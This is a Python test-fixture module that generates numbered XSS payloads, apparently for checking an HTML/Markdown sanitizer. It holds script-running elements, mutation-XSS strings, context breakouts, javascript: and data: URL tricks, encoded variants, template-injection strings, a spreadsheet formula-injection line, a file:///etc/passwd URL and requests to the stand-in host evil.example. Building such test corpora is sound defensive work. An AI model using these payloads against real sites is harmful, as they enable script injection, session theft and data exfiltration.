"""XSS payloads: the products of a few lists. Payload N calls ``ran(N)`` when it is executed.

The ideas are those of public collections (cheat sheets, sanitizer test suites), the texts are our own: elements that
run something, preceded by text that could close the surrounding context, encodings that a careless decoder undoes,
and URLs that are code, in every form in which Markdown has URLs.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from itertools import product

EVIL = "https://evil.example/"
"""A request to this host shows that a message caused it."""

ELEMENTS = (
    "<script>{run}</script>",
    "<script src=//evil.example/{n}></script>",
    "<img src=x onerror={run}>",
    '<img src="x" onerror="{run}">',
    "<img src='x' onerror='{run}'>",
    "<img src=`x` onerror=`{run}`>",
    "<IMG/SRC=x/OnErRoR={run}>",
    "<img\tsrc=x\fonerror={run}>",
    "<img\nsrc=x\nonerror={run}>",
    "<img src=//evil.example/{n}.png>",
    "<img srcset=//evil.example/{n}.png>",
    "<image href=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:,{run} />",
    "<svg><a href=javascript:{run}><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{run}>",
    "<svg><use href=//evil.example/{n}#x>",
    "<svg><image href=//evil.example/{n}>",
    "<svg><foreignObject><body onload={run}>",
    "<math href=javascript:{run}>x</math>",
    "<math><maction xlink:href=javascript:{run}>x</maction></math>",
    "<body onload={run}>",
    "<iframe onload={run}>",
    "<iframe src=javascript:{run}>",
    '<iframe srcdoc="<script>parent.{run}</script>">',
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<x-y tabindex=0 autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<style>@import '//evil.example/{n}';</style>",
    "<style onload={run}></style>",
    '<p style="background:url(//evil.example/{n});animation:x" onanimationstart={run}>x',
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<link rel=prefetch href=//evil.example/{n}>",
    "<base href=//evil.example/{n}/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/{n}">',
    "<form action=javascript:{run}><button autofocus>x",
    "<button formaction=javascript:{run}>x</button>",
    "<a href=javascript:{run} onmouseover={run}>x</a>",
    '<a id=bqwidget name=bqwidget href="{evil}{n}" ping="{evil}{n}">x</a>',
    "<template shadowrootmode=open><script>{run}</script></template>",
)
"""Elements that run something, request something, or have the names of our own elements."""

MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml version='1.0'?><img src=x onerror={run}>",
    "<!doctype html><img src=x onerror={run}>",
    "<select><option><style></option></select><img src=x onerror={run}></style>",
    "<<img src=x onerror={run}>",
    "<img src=x onerror={run}",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<a\n\n<img src=x onerror={run}>",
)
"""Text that parses differently after it is serialized and parsed again."""

BREAKOUTS = (
    '">', "'>", "`>", "-->", "]]>", "</script>", "</textarea>", "</title>", "</style>", "</noscript>",
    "</template>", "</p></li></ol></main>", "\n```\n", "`", "*/", "\\",
)  # fmt: skip

ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    "\u00a0javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript&#x3A;{run}",
    "javascript&Tab;:{run}",
    "java%0ascript:{run}",
    "javascript://evil.example/%0a{run}",
    "javascript:{run}//http://",
    "ｊavascript:{run}",
    "vbscript:{run}",
    "livescript:{run}",
    "data:text/html,<script>parent.{run}</script>",
    "data:text/html;base64,{base64}",
    "data:image/svg+xml,<svg onload={run}>",
    "data:,{run}",
    "blob:{evil}{n}",
    "filesystem:{evil}{n}",
    "file:///etc/passwd",
    "view-source:{evil}{n}",
    "feed:javascript:{run}",
    "//evil.example/{n}",
    "\\\\evil.example\\{n}",
    "{evil}{n}",
    '{evil}{n}"onmouseover="{run}',
    "{evil}{n}'onfocus='{run}'autofocus='",
    "{evil}{n}`><img/src=x/onerror={run}>",
    "mailto:x@evil.example?subject=<img/src=x/onerror={run}>",
)

LINKS = (
    "{}", "<{}>", "[x]({})", "[x](<{}>)", "![x]({})", "[![x]({0})]({0})", "[x][1]\n\n[1]: {}", '[x]({} "t")',
    "[x]({} 't\" onfocus=x')", "# [x]({})", "- [x]({})", "> [x]({})", "**[x]({})**", "| a |\n|---|\n| [x]({}) |",
    '<a href="{}">x</a>',
)  # fmt: skip

TEMPLATES = (
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "<%= {run} %>",
    "{{% raw {run} %}}",
    "#{{{run}}}",
    "[[{run}]]",
    '{{"__html":"<img src=x onerror={run}>"}}',
    '{{"type":"img","props":{{"src":"x","onerror":"{run}"}}}}',
    "__proto__",
    "constructor",
    "';{run};//",
    '";{run};//',
    "\\u003cimg src=x onerror={run}\\u003e",
    "$(\\textbf{{{run}}}) $$\\href{{javascript:{run}}}{{x}}$$",
    '```"><img src=x onerror={run}>\n{run}\n```',
    "```html\n<img src=x onerror={run}>\n```",
    '~~~js" onfocus={run} x="\n{run}\n~~~',
    "    <img src=x onerror={run}>",
    "@import '{evil}{n}'; :root{{--x:url({evil}{n})}}",
    "=cmd|'/c calc'!A1",
)

IMAGE = "<img src=x onerror={run}>"
DISGUISES = (
    "\u202e" + IMAGE,
    "\u2066" + IMAGE + "\u2069",
    "\u200b<\u200bimg src=x onerror={run}>",
    "\ufeff" + IMAGE,
    "\u2028" + IMAGE + "\u2029",
    "＜img src=x onerror={run}＞",
    "\u0338<img src=x onerror={run}>\u0338",
    "שלום " + IMAGE + " مرحبا",
    "\x00" + IMAGE,
    "<\x00img src=x onerror={run}>",
    "\x1b[31m" + IMAGE + "\x1b[0m\x07",
    "+ADw-img src=x onerror={run}+AD4-",
    "👩\u200d💻" + IMAGE,
    "‹img src=x onerror={run}›",
)


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(character)};" for character in text)


def _unfinished(text: str) -> str:
    return "".join(f"&#x{ord(character):07x}" for character in text)


def _named(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _percent(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E").replace('"', "%22").replace(" ", "%20")


def payloads() -> list[str]:
    """Returns all distinct payloads in a fixed order; number N calls ``ran(N)``."""
    return [_fill(form, encode, number) for number, (form, encode) in enumerate(dict.fromkeys(_forms()))]


def _forms() -> Iterator[tuple[str, Callable[[str], str]]]:
    """Yields each template, and the encoding to apply after its placeholders are filled in."""
    for form in (*ELEMENTS, *MUTATIONS, *TEMPLATES, *DISGUISES):
        yield form, str
    # Half of the pairs: each element meets eight breakouts, each breakout meets twenty-four elements.
    for (i, element), (j, breakout) in product(enumerate(ELEMENTS), enumerate(BREAKOUTS)):
        if (i + j) % 2 == 0:
            yield breakout + element, str
    for link, address in product(LINKS, ADDRESSES):
        yield link.format(address), str
    for element, encode in product(ELEMENTS[::3], (_named, _decimal, _unfinished, _percent)):
        yield element, encode


def _fill(form: str, encode: Callable[[str], str], number: int) -> str:
    run = f"ran({number})"
    script = base64.b64encode(f"<script>parent.{run}</script>".encode()).decode()
    return encode(form.format(run=run, n=number, evil=EVIL, base64=script))
